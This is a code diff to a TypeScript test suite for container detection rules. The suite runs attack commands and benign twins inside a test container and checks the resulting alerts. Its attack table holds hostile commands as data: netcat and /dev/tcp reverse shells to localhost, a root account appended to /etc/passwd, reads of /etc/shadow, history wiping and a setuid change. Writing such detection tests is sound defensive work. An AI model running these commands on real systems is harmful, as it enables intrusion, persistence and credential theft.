@@ -20,8 +20,8 @@ const mine = `
   items: [head, '"touch"']
 - rule: Mine
   desc: a rule of the user, in the language of Falco
-  condition: spawned and container.id != host and proc.name in (seen) and proc.pname = sh and container.image.repository = work
-  output: Mine (%proc.cmdline by %proc.pname in %container.name, %container.image.repository:%container.image.tag)
+  condition: spawned and container.id != host and proc.name in (seen) and container.image.repository = work
+  output: Mine (%proc.cmdline in %container.name, %container.image.repository:%container.image.tag)
   priority: NOTICE
   tags: [T1082]
   exceptions:
@@ -38,7 +38,14 @@ const mine = `
   priority: WARNING
 `;
 
-const exec = (script: string, ...o: string[]) => d.docker("exec", ...o, "work", "sh", "-c", script);
+// Without a shell in between where the first word is a program: busybox runs many of its own without starting them.
+const exec = (script: string) => d.docker("exec", "work", ...(script.startsWith("sh ") ? ["sh", "-c", script.slice(3)] : script.split(" ")));
+/** All that was done before this was told. */
+async function later(from: number): Promise<void> {
+  const mark = `/tmp/m${Math.random()}`;
+  await exec(`ls ${mark}`);
+  await agent.events.wait("a later event", (e) => e.type === "exec" && e.process.args.includes(mark), from);
+}
 const ruled = (name: string) => (e: Event) => e.control === "rules" && e.rule === name && e.container?.name === "work";
 const alert = (name: string, from: number) => agent.events.wait(name, ruled(name), from);
 
@@ -58,15 +65,15 @@ after(() => cleanup.run());
 
 /** [rule, attack, benign twin] */
 const attacks: [string, string, string][] = [
-  ["Network tool hands a shell to the network", "nc -e /bin/sh 127.0.0.1 4444", "nc 127.0.0.1 4444 </dev/null"],
-  ["Shell connects itself through /dev/tcp", "sh -c 'sh -i >& /dev/tcp/127.0.0.1/4444 0>&1'", "sh -c 'echo >/dev/null; true /dev/tcp/127.0.0.1/80'"],
-  ["Coin miner", "wget -q -O /dev/null --header 'x: --donate-level' http://127.0.0.1:1 || sh -c ': stratum+tcp://pool.example:3333'", "wget -q -O /dev/null http://127.0.0.1:1"],
-  ["Account files changed by a shell", "sh -c 'echo x:x:0:0::/:/bin/sh >>/etc/passwd'", "sh -c 'cat /etc/passwd >/tmp/copy'"],
-  ["Kernel hook of the host written", "sh -c 'echo /x >/tmp/release_agent'", "sh -c 'cat /tmp/release_agent'"],
-  ["Set-uid bit given", "touch /tmp/s; chmod u+s /tmp/s", "touch /tmp/s; chmod u+x /tmp/s"],
+  ["Network tool hands a shell to the network", "nc -e /bin/sh 127.0.0.1 4444", "nc -w 1 127.0.0.1 4444"],
+  ["Shell connects itself through /dev/tcp", "sh sh -i >& /dev/tcp/127.0.0.1/4444 0>&1", "sh true /dev/tcp/127.0.0.1/80"],
+  ["Coin miner", "wget -q -O /dev/null --header --donate-level http://127.0.0.1:1", "wget -q -O /dev/null http://127.0.0.1:1"],
+  ["Account files changed by a shell", "sh echo x:x:0:0::/:/bin/sh >>/etc/passwd", "sh cat /etc/passwd >/tmp/copy"],
+  ["Kernel hook of the host written", "sh echo /x >/tmp/release_agent", "sh cat /tmp/release_agent"],
+  ["Set-uid bit given", "chmod u+s /bin/busybox", "chmod u+x /bin/busybox"],
   ["Password hashes read by a command", "cat /etc/shadow", "cat /etc/passwd"],
   ["History or logs wiped", "rm -f /root/.bash_history", "rm -f /root/.cache"],
-  ["Hidden program in a scratch folder", "cp /bin/busybox /tmp/.x; /tmp/.x true", "cp /bin/busybox /tmp/x; /tmp/x true"],
+  ["Hidden program in a scratch folder", "sh cp /bin/busybox /tmp/.x; /tmp/.x true", "sh cp /bin/busybox /tmp/x; /tmp/x true"],
 ];
 
 describe("detection rules", { skip }, () => {
@@ -74,8 +81,7 @@ describe("detection rules", { skip }, () => {
     test(rule, async () => {
       const before = agent.events.mark();
       await exec(twin);
-      await exec("head -c 1 /dev/null"); // a later event of our own: all before it was told
-      await alert("Mine", before).catch(() => undefined);
+      await later(before);
       assert.deepEqual(agent.events.matching(ruled(rule), before), [], "the benign twin");
       const from = agent.events.mark();
       await exec(attack);
@@ -87,23 +93,23 @@ describe("detection rules", { skip }, () => {
       assert.ok(e.detail.mitre.every((id: string) => /^TA?\d{4}/.test(id)) && e.detail.mitre.length > 0);
       assert.ok(e.detail.message && e.detail.reason && e.detail.advice);
       assert.equal(e.detail.cause.kind, "exec-session");
-      assert.ok(e.detail.cause.process.args.includes("-c"), JSON.stringify(e.detail.cause));
+      assert.deepEqual(e.detail.cause.process.args, e.process.args);
       assert.ok(e.process.parents.length > 0);
     });
 
   test("a rule of the user, with its exception", async () => {
     const from = agent.events.mark();
-    await exec("head -c 1 /etc/hostname; head /etc/hostname; true");
-    await exec("touch /tmp/a; true");
+    await exec("head /etc/hostname");
+    await exec("touch /tmp/a");
     const e = await agent.events.wait("Mine touch", (x) => ruled("Mine")(x) && x.process.args[0] === "touch", from);
     assert.equal(e.severity, "low");
-    assert.equal(e.detail.message, "Mine (touch /tmp/a by sh in work, work:1)");
+    assert.equal(e.detail.message, "Mine (touch /tmp/a in work, work:1)");
     assert.ok(!agent.events.matching((x) => ruled("Mine")(x) && x.process.args[1] === "/etc/hostname", from).length);
   });
 
   test("a count over time", async () => {
     const from = agent.events.mark();
-    await exec("for p in 9001 9002 9003 9004 9005 9006 9007 9008; do nc -w 1 127.0.0.1 $p </dev/null; done; true");
+    await exec("sh for p in 9001 9002 9003 9004 9005 9006 9007 9008; do nc -w 1 127.0.0.1 $p </dev/null; done; true");
     const e = await alert("Port scan in a loop", from);
     assert.equal(e.detail.counted.count, 6);
     assert.equal(e.detail.message, "scan of 127.0.0.1");
@@ -112,8 +118,7 @@ describe("detection rules", { skip }, () => {
   test("repeats fold into one incident, told with its count at the end; the same history replayed finds the same", async () => {
     const from = agent.events.mark();
     for (let i = 0; i < 3; i++) await exec(`nc -e /bin/sh 127.0.0.1 ${5000 + i}`);
-    await exec("touch /tmp/end; true");
-    await agent.events.wait("the end", (x) => x.type === "exec" && x.process.args.includes("/tmp/end"), from);
+    await later(from);
     await agent.stop();
     const all = agent.events.matching(ruled("Network tool hands a shell to the network"));
     assert.equal(new Set(all.map((e) => e.detail.incident.id)).size, 1);
